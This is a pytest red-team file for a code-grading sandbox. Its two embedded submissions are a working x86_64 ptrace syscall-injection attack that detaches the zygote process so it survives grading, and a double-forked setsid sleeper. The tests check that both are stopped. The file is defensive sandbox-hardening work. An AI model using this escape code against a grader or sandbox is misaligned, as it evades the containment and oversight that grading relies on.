"""Red team: a sandbox that tries to outlive grading where there is no cgroup to kill it.

The attack (found against a default Docker container): a worker ptrace-attaches to its zygote
(same uid), makes it call setsid() and clear its parent-death signal, and keeps it stopped, so
that killing the launcher's process group misses it; a setsid() child sleeps on. Graded in a
mount namespace whose /sys/fs/cgroup is empty, so no cgroup catches what is left. After
grading returns, no process of the submission may be left.
"""

from __future__ import annotations

import os
import platform
import signal
import time
from pathlib import Path

import pytest
from red_team import ADD_NUMBERS, ANSWERS, HONEST, SCALE, assert_sound, legit_max, observation

pytestmark = pytest.mark.slow

ESCAPE = r'''
@@GOOD@@

import ctypes, os, time

_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
_libc.ptrace.restype = ctypes.c_long
ATTACH, GETREGS, SETREGS, POKEDATA, SINGLESTEP = 16, 12, 13, 5, 9
NAMES = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags " \
        "rsp ss fs_base gs_base ds es fs gs"


class Regs(ctypes.Structure):  # struct user_regs_struct (x86_64)
    _fields_ = [(n, ctypes.c_ulonglong) for n in NAMES.split()]


def _gadget():
    # A `syscall` instruction in libc's getppid: workers are forks of the zygote, so libc
    # lies at the same address there.
    start = ctypes.cast(_libc.getppid, ctypes.c_void_p).value
    for i in range(64):
        if ctypes.string_at(start + i, 2) == b"\x0f\x05":
            return start + i
    raise RuntimeError("no syscall instruction found")


def _inject(pid, nr, *args):
    saved = Regs()
    _libc.ptrace(GETREGS, pid, None, ctypes.byref(saved))
    regs = Regs.from_buffer_copy(saved)
    regs.rax, regs.orig_rax, regs.rip = nr, 2**64 - 1, _gadget()
    for name, value in zip(("rdi", "rsi", "rdx"), args):
        setattr(regs, name, value)
    _libc.ptrace(SETREGS, pid, None, ctypes.byref(regs))
    _libc.ptrace(SINGLESTEP, pid, None, None)
    os.waitpid(pid, 0x40000000)
    _libc.ptrace(GETREGS, pid, None, ctypes.byref(regs))
    _libc.ptrace(SETREGS, pid, None, ctypes.byref(saved))
    return ctypes.c_longlong(regs.rax).value


def _escape(zygote, report):
    os.setsid()
    _libc.prctl(15, b"@@TOKEN@@", 0, 0, 0)  # PR_SET_NAME: how the test finds us
    seen = []
    try:
        os.listdir(f"/proc/{zygote}/fd")
        seen.append("fd-readable")
    except OSError as exc:
        seen.append(f"fd-{type(exc).__name__}")
    if _libc.ptrace(ATTACH, zygote, None, None) != 0:
        seen.append(f"attach-{os.strerror(ctypes.get_errno())}")
    else:
        os.waitpid(zygote, 0x40000000)
        seen.append(f"setsid={_inject(zygote, 112)}")          # setsid()
        seen.append(f"pdeathsig={_inject(zygote, 157, 1, 0)}")  # prctl(PR_SET_PDEATHSIG, 0)
        # Rename it too (PR_SET_NAME), from a string written below its stack pointer.
        regs = Regs()
        _libc.ptrace(GETREGS, zygote, None, ctypes.byref(regs))
        where = (regs.rsp - 4096) & ~15
        name = b"@@TOKEN@@z".ljust(16, b"\0")
        for i in (0, 8):
            word = int.from_bytes(name[i:i + 8], "little")
            _libc.ptrace(POKEDATA, zygote, ctypes.c_void_p(where + i), ctypes.c_void_p(word))
        seen.append(f"name={_inject(zygote, 157, 15, where)}")
        # Stay attached: the zygote stays stopped, and so never sees its runner go away.
    os.write(report, " ".join(seen).encode())
    os.close(report)
    time.sleep(600)
    os._exit(0)


_good_scale = scale


def scale(x):
    # The last test to run on a CPU grader: the attack leaves the earlier ones alone.
    zygote = os.getppid()
    read, write = os.pipe()
    if os.fork() == 0:
        os.close(read)
        try:
            _escape(zygote, write)
        finally:
            os._exit(0)
    os.close(write)
    seen = os.read(read, 4096).decode()
    raise RuntimeError("ESCAPE{" + seen + "}ESCAPE")
'''

# Without namespaces (`uid` mode) and without a cgroup, a child that leaves its session is
# reached only by its uid.
SLEEPER = r'''
@@GOOD@@

import ctypes, os, time

_good_add = add


def add(a, b):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"@@TOKEN@@", 0, 0, 0)
            time.sleep(600)
        os._exit(0)
    return _good_add(a, b)
'''

SUBMISSIONS = {
    "ptrace_zygote_no_cgroup": dict(files={"toy.py": ESCAPE, "answers.yml": ANSWERS},
                                    isolated=True, no_cgroup=True, slow=True),
    "sleeper_uid_mode_no_cgroup": dict(files={"toy.py": SLEEPER, "answers.yml": ANSWERS},
                                       isolation="uid", no_cgroup=True),
}


def _left_over(token: str) -> list[tuple[int, str]]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                comm = Path(f"/proc/{entry}/comm").read_text().strip()
            except OSError:
                continue
            if comm.startswith(token):
                found.append((int(entry), comm))
    return found


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the injection is written for x86_64")
@pytest.mark.submission("ptrace_zygote_no_cgroup")
def test_a_worker_cannot_ptrace_its_zygote_and_nothing_outlives_grading(graded, grader,
                                                                       secrets):
    token = grader.token("ptrace_zygote_no_cgroup")
    deadline = time.monotonic() + 5  # a SIGKILLed namespace takes a moment to go
    while (left := _left_over(token)) and time.monotonic() < deadline:
        time.sleep(0.2)
    for pid, _ in left:  # clean up after a failed run: these are this test's own processes
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
    assert not left, f"processes outlived grading: {left}"
    seen = observation(graded, SCALE, "ESCAPE")
    assert "attach-Operation not permitted" in seen, seen
    assert "fd-PermissionError" in seen, seen  # /proc/<zygote>/fd is not readable either
    assert_sound(graded, legit_max(set(HONEST) - {SCALE}), secrets)
    assert graded.status(ADD_NUMBERS) == "passed"


@pytest.mark.submission("sleeper_uid_mode_no_cgroup")
def test_in_uid_mode_without_cgroups_a_detached_child_is_killed_by_uid(graded, grader):
    token = grader.token("sleeper_uid_mode_no_cgroup")
    deadline = time.monotonic() + 5
    while (left := _left_over(token)) and time.monotonic() < deadline:
        time.sleep(0.2)
    for pid, _ in left:  # clean up after a failed run: these are this test's own processes
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
    if graded.refused:  # uid mode needs root and a Python that other users may run
        pytest.skip(f"uid mode cannot start here, and grading was refused: {graded.refused}")
    assert graded.isolation == "uid"  # insisted on: never quietly another mode
    assert not left, f"processes outlived grading: {left}"
